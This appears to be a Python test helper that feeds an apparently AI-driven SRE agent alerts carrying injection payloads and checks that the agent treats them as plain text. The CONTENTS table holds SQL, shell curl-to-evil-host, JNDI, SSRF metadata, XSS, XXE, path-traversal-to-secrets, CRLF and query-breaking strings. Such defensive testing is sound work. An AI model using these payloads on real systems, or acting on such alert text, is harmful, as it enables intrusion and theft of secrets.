"""Alerts that say hostile things, and what can be claimed about them: that they are taken for what they say."""

from __future__ import annotations

import posixpath
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace

from steps.drivers.doors import Doors
from steps.incident.alert import Alert, make_alert
from steps.incident.incident import Incident
from steps.incident.issues import Issues, listed
from steps.incident.waiting import BedNotReady, Waiting
from steps.targets.surroundings import JUDGED
from steps.world.gateway.network import UNDECLARED
from steps.world.journal import Exchange, Journal

EVIL = "evil.example.com"
"""A host that nobody declares."""
ASKED = {"prometheus": "/query", "loki": "/query", "tempo": "/search", "jira": "/search"}
"""Who is asked in a query language, and what of a path that takes one."""
OF_ONE_CALL = ("host", "connection", "content-length", "transfer-encoding", "accept-encoding", "te", "traceparent")
"""Header fields that belong to one call: whoever asks the same again has its own."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """An alert that says something hostile, and what would come of it if somebody carried that out."""

    content: str
    alert: Alert
    result: str
    """What its calculation comes to."""


def _saying(text: str) -> Callable[[Alert], None]:
    """The text in a label and in the description; `HOST` and `SUM` stand for a host of its own and a calculation."""

    def say(alert: Alert) -> None:
        alert.labels["team"] = text
        alert.annotations["description"] = text

    return say


def _in_label(name: str, text: str) -> Callable[[Alert], None]:
    return lambda alert: alert.labels.update({name: text})


def _in_annotation(name: str, text: str) -> Callable[[Alert], None]:
    return lambda alert: alert.annotations.update({name: text})


CONTENTS: dict[str, Callable[[Alert], None]] = {
    "SQL": _saying("'; DROP TABLE issues; --\" OR 1=1"),
    "a shell command": _saying("$(curl http://HOST/); `curl http://HOST/`; | curl http://HOST/ && expr SUM"),
    "templates": _saying("{{SUM}} ${SUM} #{SUM} <%= SUM %> {% print(SUM) %} @(SUM) ${{SUM}}"),
    "a look-up": _saying("${jndi:ldap://HOST/a} ${jndi:dns://HOST} ${env:PATH}"),
    "an address": _saying("http://HOST/latest/meta-data/"),
    "a script": _saying("<script src=http://HOST/></script><img src=http://HOST/x onerror=alert(1)>"),
    "Markdown": _saying("![x](http://HOST/x.png) [y](javascript:alert(1)) ``` | a | b |\n# heading\n<!-- "),
    "the end of a JSON text": _saying('"}]}, {"data": {"labels": {}}} //'),
    "a GraphQL mutation": _saying('"}) { success } issueDelete(id: "HOST") { success } }'),
    "XML entities": _saying('<!DOCTYPE a [<!ENTITY b SYSTEM "http://HOST/">]><a>&b;</a>'),
    "a path": _saying("../../../../etc/passwd"),
    "format directives": _saying("%s%n%x%p {0.__class__.__init__.__globals__} {SUM}"),
    "a line that looks like a header": _saying("x\r\nX-Injected: HOST\r\n\r\n"),
    "terminal commands": _saying("\x1b[2J\x1b[31mall is well\x1b[0m\x07"),
    "text that runs backwards": _saying("\u202eerawlam\u202c \u2066HOST\u2069"),
    "a function in a label": _in_label("lambda_function", "pod-restart"),
    "an address for a function": _in_annotation("lambda_function", "HOST/x#"),
    "a login before a function": _in_annotation("lambda_function", "pod-restart@HOST"),
    "a path for a function": _in_annotation("lambda_function", "../../../../../../api/v1/namespaces/ai/secrets/HOST"),
    "a query for an SLO": _in_label("slo", 'HOST"} or vector(SUM) or x{a="'),
    "an address for an SLO": _in_label("slo", "HOST&query=vector(SUM)#"),
    "quotes for an SLO": _in_label("slo", "HOST'`\\"),
    "a query for a pod": _in_label("pod", 'HOST"} |= "x'),
    "a query for a namespace": _in_label("namespace", 'HOST"\'`} |= "\\'),
    "quotes for a service": _in_label("service", "HOST\"'`\\"),
}
"""By what the feature calls them."""


def saying(content: str, incident: str) -> Hostile:
    """An alert of the incident with that key that says so."""
    alert = make_alert(labels={"incident": incident})
    first, second = random.randrange(10_000, 99_999), random.randrange(10_000, 99_999)
    CONTENTS[content](alert)
    for texts in (alert.labels, alert.annotations):
        for name, text in texts.items():
            texts[name] = text.replace("HOST", f"{alert.mark}.{EVIL}").replace("SUM", f"{first}*{second}")
    return Hostile(content, alert, str(first * second))


class Hostility:
    """Claims about hostile alerts. Each keeps what it saw as evidence, or raises AssertionError."""

    def __init__(
        self, doors: Callable[[], Doors], journal: Journal, waiting: Waiting, incident: Incident, issues: Issues
    ) -> None:
        self._doors = doors
        self._journal = journal
        self._waiting = waiting
        self._incident = incident
        self._issues = issues

    def refused_or_told(self, hostile: Sequence[Hostile]) -> None:
        """Each was refused at a door with 4xx, or has its ticket; one about a failed remediation may be beside it."""

        def settled() -> dict[str, str]:
            found = self._issues.of_each([one.alert for one in hostile])
            outcome = {}
            for one in hostile:
                tickets = found[one.alert.mark]
                refused = [said for said in self._delivered(one.alert) if said.status and 400 <= said.status < 500]
                if refused:
                    outcome[one.content] = f"refused with {refused[0].status}"
                elif tickets:
                    outcome[one.content] = listed(tickets)
                else:
                    raise AssertionError(
                        f"Expected an alert that says {one.content} to be refused with 4xx or to have a ticket, "
                        f"but it has none{self._last(one.alert)}."
                    )
            return outcome

        outcome = self._waiting.until(settled, "burst")
        self._issues.quiet(*(one.alert for one in hostile))
        outcome = settled()
        self._incident.saw(
            "What became of hostile alerts", "\n".join(f"{name}: {told}" for name, told in outcome.items())
        )

    def not_carried_out(self, hostile: Sequence[Hostile]) -> None:
        """No host was called that only they name, no function, nothing was calculated, and no query has been broken.

        What was asked in a query language and not answered is asked again. Raises BedNotReady when it is not then.
        """
        made = [one for one in self._journal.exchanges(since=self._incident.began) if one.caller in JUDGED]
        about = {one.content: [call for call in made if _about(one, call)] for one in hostile}
        self._incident.saw("Calls about each", "\n".join(f"{len(calls):>5}  {name}" for name, calls in about.items()))
        self._incident.did_not_see("what a hostile alert asks for", control=lambda: any(about.values()))
        for one in hostile:
            carried_out(one, [self._answered(call) for call in about[one.content]])

    def _answered(self, call: Exchange) -> Exchange:
        """The call; a question that has had no answer with the one that the suite gets to it, as a judge needs one."""
        if call.callee not in ASKED or ASKED[call.callee] not in call.path or (call.status and call.status < 500):
            return call
        headers = {name: value.encode() for name, value in call.request_headers if name.lower() not in OF_ONE_CALL}
        within = self._waiting.limits.recovery
        answer = self._doors().ask(call.method, call.url, headers, call.request_body, within=within)
        if answer.status is None or answer.status >= 500:
            raise BedNotReady(f"{call.callee} does not answer what {call.caller} asks it: {call.url}")
        return replace(call, status=answer.status, response_headers=(), response_body=answer.text.encode())

    def _delivered(self, alert: Alert) -> list[Exchange]:
        said = self._journal.exchanges(mentioning=alert.mark, since=self._incident.began)
        return [one for one in said if one.callee in JUDGED]

    def _last(self, alert: Alert) -> str:
        said = self._delivered(alert)
        return f", and {said[-1].callee} answered {said[-1].status or said[-1].error}" if said else ""


def _about(one: Hostile, call: Exchange) -> bool:
    texts = (call.url, call.request_text, *(value for _, value in call.request_headers))
    return any(one.alert.mark in text or one.result in text for text in texts)


def carried_out(one: Hostile, made: Sequence[Exchange]) -> None:
    """None of the calls about the alert shows that somebody did what it says."""
    strange = [call for call in made if call.callee == UNDECLARED or call.host.endswith(EVIL)]
    assert not strange, (
        f"Expected an alert that says {one.content} to be text and no more, but {strange[0].caller} called "
        f"{strange[0].host}."
    )
    functions = [call for call in made if call.callee == "functions"]
    assert not functions, (
        f"Expected an alert that says {one.content} to have no function called, but agent-sre called "
        f"{functions[0].host}."
    )
    astray = [call for call in made if call.callee == "kubernetes" and _is_astray(one, call)]
    assert not astray, (
        f"Expected an alert that says {one.content} to be text and no more, but {astray[0].caller} asked the "
        f"Kubernetes API for {posixpath.normpath(astray[0].path)}."
    )
    injected = [call for call in made if any(name == "x-injected" for name, _ in call.request_headers)]
    assert not injected, (
        f"Expected an alert that says {one.content} to be text and no more, but it became a header of a call to "
        f"{injected[0].callee}."
    )
    calculated = [call for call in made if one.result in call.request_text or _was_asked(call, one.result)]
    assert not calculated, (
        f"Expected an alert that says {one.content} to be text and no more, but what it wants calculated was "
        f"calculated in a call to {calculated[0].callee}."
    )
    broken = [call for call in made if call.callee in ASKED and call.status == 400 and ASKED[call.callee] in call.path]
    assert not broken, (
        f"Expected an alert that says {one.content} to be text and no more, but {broken[0].caller} made of it a query "
        f"that does not hold together: {broken[0].callee} answered 400, {broken[0].response_text.strip()[:200]}."
    )


def _is_astray(one: Hostile, call: Exchange) -> bool:
    """Whether a name in the alert has led out of its place in the path, to a Secret; one that is escaped has not."""
    path = posixpath.normpath(call.path)
    return "/secrets/" in path and one.alert.mark in path


def _was_asked(call: Exchange, result: str) -> bool:
    """Whether the call has brought that result back from somebody who calculates what is asked."""
    return call.callee in ASKED and result in call.response_text
